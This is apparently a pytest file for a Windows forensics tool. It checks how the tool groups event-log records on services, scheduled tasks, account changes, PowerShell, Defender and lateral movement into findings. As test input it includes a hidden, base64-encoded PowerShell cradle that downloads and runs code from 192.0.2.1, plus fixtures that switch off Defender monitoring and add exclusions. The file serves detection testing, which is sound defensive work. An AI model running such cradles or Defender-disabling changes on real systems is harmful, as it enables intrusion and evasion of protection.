"""Services, tasks, account changes, PowerShell, Defender and movement, by the documented fields of their records."""

from __future__ import annotations

import base64
import gzip

import pytest
from windows_events import DEFENDER, POWERSHELL, SYSMON, TASKS, Logs

from forensics.answers import changes, lateral, scriptblocks
from forensics.answers.decoded import decoded, encoded_command
from forensics.answers.run import run_all
from forensics.answers.tables import tables
from forensics.answers.taskxml import task_xml

TASK = """<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
<RegistrationInfo><Author>CORP\\eve</Author><Date>2024-03-01T10:00:00</Date></RegistrationInfo>
<Triggers><CalendarTrigger><StartBoundary>2024-03-01T11:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval>
</ScheduleByDay></CalendarTrigger><LogonTrigger/></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId>
<RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Hidden>true</Hidden></Settings>
<Actions Context="Author"><Exec><Command>cmd.exe</Command><Arguments>/c &quot;a &amp; b&quot;</Arguments></Exec>
<ComHandler><ClassId>{AB}</ClassId></ComHandler></Actions></Task>"""


def encode(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_a_service_that_two_logs_tell_of_is_one_row():
    logs = Logs()
    system = {"ServiceName": "upd", "ImagePath": "C:\\Users\\Public\\u.exe", "StartType": "auto start",
              "AccountName": "LocalSystem"}  # fmt: skip
    logs.add(0, "System", 7045, system)
    audit = {"ServiceName": "upd", "ServiceFileName": "C:\\Users\\Public\\u.exe", "SubjectUserName": "eve",
             "SubjectDomainName": "CORP", "ServiceAccount": "LocalSystem", "ServiceStartType": "2"}  # fmt: skip
    logs.add(1, "Security", 4697, audit)
    logs.add(3600, "System", 7045, system)
    for seconds in range(5):
        logs.add(10 + seconds, "System", 7036, {"Data": {"#text": ["Print Spooler", "running"]}})
    # newer systems name the values
    names = {"param1": "Windows Defender", "param2": "auto start", "param3": "disabled", "param4": "WinDefend"}
    logs.add(50, "System", 7040, names)
    rows = logs.rows("services")
    assert [(row["what"], row["records"], row["count"]) for row in rows] == [
        ("installed", 2, 1), ("entered state", 5, 5), ("start type changed", 1, 1), ("installed", 1, 1),
    ]  # fmt: skip
    assert rows[0]["command"] == "C:\\Users\\Public\\u.exe" and "writable-place" in rows[0]["flags"]
    assert (rows[0]["account"], rows[0]["user"]) == ("LocalSystem", "CORP\\eve")
    assert rows[2]["detail"] == "auto start to disabled"
    (found,) = logs.found("services", "protection")
    assert found.level == "warning" and "Windows Defender" in found.title


def test_services_set_in_the_registry():
    logs = Logs()
    key = "HKLM\\System\\CurrentControlSet\\Services\\"
    for name, value in (
        ("abc\\ImagePath", "cmd.exe /c x"),
        ("WinDefend\\Start", "DWORD (0x00000004)"),
        ("abc\\Tag", "1"),
    ):
        logs.add(
            1, SYSMON, 13, {"TargetObject": key + name, "Details": value, "Image": "C:\\x.exe", "EventType": "SetValue"}
        )
    rows = {row["service"]: row for row in logs.rows("services")}
    assert set(rows) == {"abc", "WinDefend"} and "shell-command" in rows["abc"]["flags"]
    assert [one.attrs["service"] for one in logs.found("services", "protection")] == ["WinDefend"]


def test_a_task_with_its_definition_in_words():
    logs = Logs()
    who = {"SubjectUserName": "eve", "SubjectDomainName": "CORP", "TaskName": "\\upd"}
    logs.add(0, "Security", 4698, who | {"TaskContent": TASK})
    logs.add(1, TASKS, 106, {"TaskName": "\\upd", "UserContext": "CORP\\eve"})
    for seconds in (2, 3):
        logs.add(seconds, TASKS, 200, {"TaskName": "\\upd", "ActionName": "cmd.exe"})
    logs.add(4, TASKS, 201, {"TaskName": "\\upd", "ActionName": "cmd.exe", "ResultCode": "1"})
    logs.add(5, TASKS, 141, {"TaskName": "\\upd", "UserName": "CORP\\eve"})
    rows = logs.rows("tasks")
    assert [(row["what"], row["count"], row["records"]) for row in rows] == [
        ("created", 1, 2), ("runs", 2, 2), ("completed", 1, 1), ("deleted", 1, 1),
    ]  # fmt: skip
    made = rows[0]
    assert made["command"] == 'cmd.exe /c "a & b"; COM {AB}' and made["run_as"] == "S-1-5-18"
    assert made["author"] == "CORP\\eve" and "hidden" in made["detail"] and "task-hidden" in made["flags"]
    assert made["triggers"] == "CalendarTrigger StartBoundary=2024-03-01T11:00:00 DaysInterval=1; LogonTrigger"
    (found,) = logs.found("tasks", "short-lived")
    assert found.attrs["seconds"] == 5 and len(found.refs) == 3


@pytest.mark.parametrize("text", ["", "<", "<a" * 5000, "<a>" * 100_000, "&" * 70_000, "<!ENTITY a 'b'>&a;</a></b>",
                                  "<Actions><Exec><Command>" + "x" * 300_000])  # fmt: skip
def test_broken_definitions_raise_nothing(text):
    found = task_xml(text)
    assert sum(map(len, found.commands)) <= 16 * 1024 and found.cut is (len(text) > 1 << 18)


def test_changes_of_accounts_and_groups():
    logs = Logs()
    by = {"SubjectUserName": "eve", "SubjectDomainName": "CORP", "SubjectLogonId": "0x99"}
    new = {"TargetUserName": "tmp", "TargetDomainName": "CORP", "TargetSid": "S-1-5-21-1-1105"}
    logs.add(0, "Security", 4720, by | new | {"SamAccountName": "tmp", "UserAccountControl": "%%2080"})
    group = {"TargetUserName": "Domain Admins", "TargetDomainName": "CORP", "TargetSid": "S-1-5-21-1-512"}
    member = {"MemberName": "CN=tmp,DC=corp", "MemberSid": "S-1-5-21-1-1105"}
    logs.add(5, "Security", 4728, by | group | member)
    logs.add(7, "Security", 4765, by | new | {"SidHistory": "S-1-5-21-1-500"})
    logs.add(600, "Security", 4729, by | group | member)
    logs.add(900, "Security", 4726, by | new)
    logs.add(950, "Security", 4735, by | group | {"SamAccountName": "-"})
    rows = logs.rows("account-changes")
    assert [row["what"] for row in rows] == [
        "account created", "member added", "SID history added", "member removed", "account deleted", "group changed",
    ]  # fmt: skip
    assert rows[1]["group"] == "CORP\\Domain Admins" and rows[1]["user"] == "CN=tmp,DC=corp"
    assert "privileged-group" in rows[1]["flags"] and rows[1]["sid"] == "S-1-5-21-1-1105"
    assert rows[0]["by"] == "CORP\\eve" and rows[0]["logon_id"] == "0x99" and "SamAccountName=tmp" in rows[0]["detail"]
    assert rows[5]["user"] == "" and "S-1-5-21-1-500" in rows[2]["detail"]
    short = logs.found("account-changes", "short-lived")
    assert [one.attrs["seconds"] for one in short] == [900, 595]
    assert set(short[1].attrs["reasons"]) == {"short-lived", "privileged-group"}
    users = {"TargetUserName": "Users", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-545"}
    logs.add(2000, "Security", 4732, by | users | member)
    logs.add(2001, "Security", 4733, by | users | member)
    assert logs.found("account-changes", "short-lived")[-1].level == "notice"
    accounts = {row["user"]: row for row in logs.rows("accounts")}
    assert accounts["CORP\\tmp"]["groups"] == "Domain Admins, Users", "joined by the member's SID"


def block(logs, number, total, text, id="7f", **more):
    data = {"MessageNumber": number, "MessageTotal": total, "ScriptBlockText": text, "ScriptBlockId": id, "Path": ""}
    return logs.add(number, POWERSHELL, 4104, data, **more)


def test_script_blocks_are_put_together():
    logs = Logs()
    for number in (3, 1, 2):
        block(logs, number, 3, f"part{number};", content=str(number) * 64)
    block(logs, 2, 3, "part2;", content="9" * 64)
    block(logs, 1, 4, "alone", id="aa", level=3)
    block(logs, 3, 4, "end", id="aa")
    block(logs, 1, 4, "other", id="aa")
    rows = {row["id"]: row for row in logs.rows("powershell")}
    assert rows["7f"]["text"] == "part1;part2;part3;" and rows["7f"]["parts"] == "3 of 3 parts"
    assert rows["7f"]["records"] == 4
    assert rows["aa"]["text"] == "alone\n[parts 2 to 2 are missing]\nend\n[parts 4 to 4 are missing]"
    assert rows["aa"]["parts"] == "2 of 4 parts; missing 2, 4; part 1 given with different texts"
    assert rows["aa"]["flags"].startswith("PowerShell itself logged it as a warning")


def test_what_is_encoded_stands_beside_the_text():
    logs = Logs()
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
    line = f"powershell.exe -NoP -w hidden -EnC {encode(inner)}"
    logs.add(0, SYSMON, 1, {"CommandLine": line, "Image": "C:\\p.exe", "User": "CORP\\eve"})
    logs.add(1, SYSMON, 1, {"CommandLine": "powershell.exe -File a.ps1", "Image": "C:\\p.exe"})
    packed = base64.b64encode(gzip.compress(b"Write-Host 'hidden text that is long enough'")).decode()
    block(logs, 1, 1, f"iex ([IO.StreamReader]::new([Convert]::FromBase64String('{packed}')))")
    rows = {row["kind"]: row for row in logs.rows("powershell")}
    assert rows["command line"]["decoded"] == [inner] and rows["command line"]["user"] == "CORP\\eve"
    assert rows["script block"]["decoded"] == ["Write-Host 'hidden text that is long enough'"]
    found = logs.found("powershell", "decodes")
    assert {one.title.partition(": ")[2][:12] for one in found} == {"command line", "script block"}
    assert any("fetches-and-runs" in one.attrs["reasons"] for one in found)


def test_engines_are_grouped_by_their_host_id():
    logs = Logs()
    context = (
        "\tHostName=ConsoleHost\n\tHostId=11-22\n\tHostApplication=powershell.exe -enc {}\n\tEngineVersion=5.1".format(
            encode("Get-Process | Out-File C:\\x.txt")
        )
    )
    for id in (400, 600, 403):
        logs.add(id / 100, "Windows PowerShell", id, {"Data": {"#text": ["Available", "None", context]}})
    info = "        Host ID = 11-22\n        Host Application = powershell.exe\n"
    logs.add(5, POWERSHELL, 4103, {"ContextInfo": info, "Payload": "CommandInvocation(Get-Process)"})
    (row,) = logs.rows("powershell")
    assert row["records"] == 4 and row["decoded"] == ["Get-Process | Out-File C:\\x.txt"]
    assert row["text"].startswith("powershell.exe -enc ") and row["text"].endswith("CommandInvocation(Get-Process)")


def test_decoding_is_bounded_and_finds_no_text_in_chance():
    bomb = base64.b64encode(gzip.compress(b"A" * (64 << 20))).decode()
    assert max(map(len, decoded(f"x '{bomb}'")), default=0) <= 1 << 20
    assert not decoded("C:/" + "Windows/System32/" * 20) and not encoded_command("-e 1")
    nest = "whoami"
    for _ in range(6):
        nest = f"powershell -e {encode(nest)}"
    assert len(decoded(nest)) <= 8


def detection(logs, seconds, id, name="{D-1}", **more):
    data = {"Detection ID": name, "Threat Name": "HackTool:Win32/Mimikatz", "Severity Name": "High",
            "Path": "file:_C:\\Users\\Public\\m.exe", "Process Name": "C:\\e.exe",
            "Detection User": "CORP\\eve"}  # fmt: skip
    return logs.add(seconds, DEFENDER, id, data | more)


def test_detections_are_joined_by_their_id():
    logs = Logs()
    detection(logs, 0, 1116)
    detection(logs, 5, 1117, **{"Action Name": "Quarantine", "Error Code": "0x00000000"})
    detection(logs, 9, 1116, "{D-2}")
    detection(logs, 11, 1116, "{D-3}")
    detection(logs, 12, 1119, "{D-3}", **{"Action Name": "Remove", "Error Description": "Access denied"})
    detection(logs, 20, 1116, "{D-4}")
    detection(logs, 21, 1117, "{D-4}", **{"Action Name": "Quarantine", "Error Code": "0x80508022"})
    rows = {row["id"]: row for row in logs.rows("defender")}
    assert {id: row["outcome"] for id, row in rows.items()} == {
        "{d-1}": "acted", "{d-2}": "no action seen", "{d-3}": "failed", "{d-4}": "failed",
    }  # fmt: skip
    assert rows["{d-1}"]["threat"] == "HackTool:Win32/Mimikatz" and rows["{d-1}"]["action"] == "Quarantine: done"
    levels = sorted(one.level for one in logs.found("defender", "detected"))
    assert levels == ["notice", "warning", "warning", "warning"]


def test_switched_off_then_run_and_left_out():
    logs = Logs()
    base = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
    logs.add(0, DEFENDER, 5007, {"Old Value": "", "New Value": f"{base}Exclusions\\Paths\\C:\\Users\\Public = 0x0"})
    logs.add(1, DEFENDER, 5007, {"Old Value": f"{base}Exclusions\\Paths\\C:\\a = 0x0", "New Value": ""})
    logs.add(2, DEFENDER, 5007, {"New Value": f"{base}Real-Time Protection\\DisableRealtimeMonitoring = 0x1"})
    logs.add(3, DEFENDER, 5007, {"New Value": f"{base}Real-Time Protection\\DisableRealtimeMonitoring = 0x0"})
    logs.add(60, SYSMON, 1, {"Image": "C:\\Users\\Public\\a.exe", "CommandLine": "a"})
    logs.add(61, SYSMON, 1, {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "b"})
    logs.add(9000, SYSMON, 1, {"Image": "C:\\Users\\Public\\late.exe", "CommandLine": "c"})
    assert [row["what"] for row in logs.rows("defender")] == [
        "exclusion added", "exclusion removed", "switched off: DisableRealtimeMonitoring", "configuration",
    ]  # fmt: skip
    (off,) = logs.found("defender", "off")
    assert off.level == "alert" and off.attrs["ran"] == ["C:\\Users\\Public\\a.exe"] and off.not_proof
    (left,) = logs.found("defender", "exclusion")
    assert "writable-place" in left.attrs["reasons"] and "paths C:\\Users\\Public" in left.title


def test_movement_is_a_graph_and_a_chain():
    a, b, c = "10.0.0.1", "SRV-B.corp.test", "SRV-C.corp.test"
    logs = Logs()
    logs.logon(0, "0x500", "adm", kind=3, ip=a, station="PC-A", computer=b)
    service = {"ServiceName": "x", "ServiceFileName": "cmd.exe", "SubjectLogonId": "0x500", "SubjectUserName": "adm"}
    logs.add(30, "Security", 4697, service, computer=b)
    share = {"SubjectUserName": "adm", "SubjectDomainName": "CORP", "IpAddress": a, "ShareName": "\\\\*\\IPC$"}
    logs.add(31, "Security", 5145, share | {"RelativeTargetName": "svcctl"}, computer=b)
    logs.add(35, "System", 7045, {"ServiceName": "y", "ImagePath": "y.exe"}, computer=b)
    # B is known by its address, from its own log
    own = {"SourceIp": "10.0.0.2", "SourcePort": "50000", "DestinationIp": "10.0.0.3", "DestinationPort": "445",
           "Initiated": "true", "Image": "System", "User": "CORP\\adm"}  # fmt: skip
    logs.add(99, SYSMON, 3, own, computer=b)
    logs.logon(1800, "0x600", "adm", kind=3, ip="10.0.0.2", computer=c)
    logs.logon(9800, "0x700", "adm", kind=3, ip="10.0.0.2", computer="SRV-D")
    logs.logon(10, "0x9", "adm", kind=3, ip="127.0.0.1", computer=b)
    ways = {(row["source"], row["target"], row["protocol"]) for row in logs.rows("lateral")}
    srv = b.lower()
    assert ways == {
        (a, srv, "network logon"), (a, srv, "service installed"), (a, srv, "pipe: service control"),
        (a, srv, "service installed (by time)"), (srv, "10.0.0.3", "connection: SMB"),
        ("10.0.0.2", c.lower(), "network logon"), ("10.0.0.2", "srv-d", "network logon"),
    }  # fmt: skip
    (chain,) = [one for one in logs.found("lateral", "chain") if one.attrs["protocols"] == ["network logon"] * 2]
    assert chain.attrs["machines"] == ["pc-a", "srv-b", "srv-c"] and "CORP\\adm" in chain.title
    made = logs.found("lateral", "remote-run")
    assert {one.attrs["protocol"] for one in made} == {"service installed", "service installed (by time)"}


def test_a_start_between_parts_logon_ids():
    logs = Logs()
    logs.logon(0, "0x500", "adm", kind=3, ip="10.0.0.1")
    logs.add(100, "Security", 4608, {})
    logs.add(200, "Security", 4698, {"TaskName": "\\a", "SubjectLogonId": "0x500", "TaskContent": TASK})
    assert not logs.found("lateral", "remote-run")


def test_explicit_credentials_and_clients_go_out():
    logs = Logs("A")
    explicit = {"SubjectUserName": "al", "SubjectLogonId": "0x5", "TargetUserName": "adm", "TargetDomainName": "CORP"}
    logs.add(0, "Security", 4648, explicit | {"TargetServerName": "cifs/SRV2", "ProcessName": "C:\\x\\net.exe"})
    logs.add(1, "Security", 4648, explicit | {"TargetServerName": "localhost"})
    logs.add(2, "Microsoft-Windows-WinRM/Operational", 6, {"connection": "srv3/wsman?PSVersion=5.1"},
             provider="Microsoft-Windows-WinRM")  # fmt: skip
    rows = logs.rows("lateral")
    assert [(row["source"], row["target"], row["protocol"], row["details"]) for row in rows] == [
        ("a", "srv2", "explicit credentials", ["net.exe"]), ("a", "srv3", "WinRM client", []),
    ]  # fmt: skip


def test_bounds_are_said(monkeypatch):
    logs = Logs()
    for number in range(12):
        logs.add(number * 60, "System", 7045, {"ServiceName": f"s{number}", "ImagePath": f"{number}.exe"})
        logs.logon(number, hex(number), kind=3, ip=f"10.0.0.{number}")
        block(logs, 1, 1, "x", id=f"b{number}")
    for module, name in ((changes, "MAX_ROWS"), (lateral, "MAX_EDGES"), (scriptblocks, "MAX_BLOCKS")):
        monkeypatch.setattr(module, name, 10)
    made = tables(logs.case)
    for name, word in (("services", "2 further"), ("lateral", "2 further"), ("powershell", "2 further")):
        assert len(list(made[name])) == 10 and word in made[name].notes[0]
    reasons = {one.answer for one in run_all(logs.case).not_evaluated if "2 further" in one.reason}
    assert {"answers.services", "answers.lateral", "answers.powershell"} <= reasons


def test_accounts_beyond_the_bound_are_said(monkeypatch):
    monkeypatch.setattr("forensics.answers.tables.MAX_WINDOWS_ACCOUNTS", 2)
    logs = Logs()
    for number in range(5):
        logs.logon(number, hex(number), user=f"u{number}")
    table = tables(logs.case)["accounts"]
    for _ in range(2):
        assert len(list(table)) == 2 and table.notes == [
            "3 records of further accounts are not in it (the first 2 are)"
        ]


def test_groups_beyond_the_bound_are_said(monkeypatch):
    monkeypatch.setattr("forensics.answers.tables.MAX_GROUPS", 2)
    logs = Logs()
    logs.logon(0, "0x1", user="eve")
    for number in range(5):
        fields = {"TargetUserName": f"group {number % 4}", "TargetDomainName": "PC", "TargetSid": f"S-1-5-32-{number}"}
        member = {"MemberName": "-", "MemberSid": "S-1-5-21-1-1-1-1104", "SubjectUserName": "adm"}
        logs.add(number, "Security", 4732, fields | member)
    table = tables(logs.case)["accounts"]
    list(table)
    assert table.notes == ["2 records of further members or groups are not in it (2 groups an account are)"]


def test_copies_and_spans_beyond_a_bound_are_said(monkeypatch):
    logs = Logs()
    for number in range(5):
        logs.logon(number * 3600, hex(number), kind=3, ip="10.0.0.1")
        logs.add(number * 60, "System", 7036, {"param1": "Spooler", "param2": "stopped"})
    for module, name in ((lateral, "MAX_COPIES"), (lateral, "MAX_SPANS"), (changes, "MAX_COPIES")):
        monkeypatch.setattr(module, name, 3)
    said = {one.reason for one in run_all(logs.case).not_evaluated if one.answer == "answers.lateral"}
    assert "2 records were not remembered: copies of them are counted as records" in said
    assert any(one.startswith("1 ways were used in more than") for one in said)
    made = tables(logs.case)["services"]
    assert [row["count"] for row in made] == [5] and made.notes == [
        "2 records were not remembered: copies of them are counted as records"
    ]
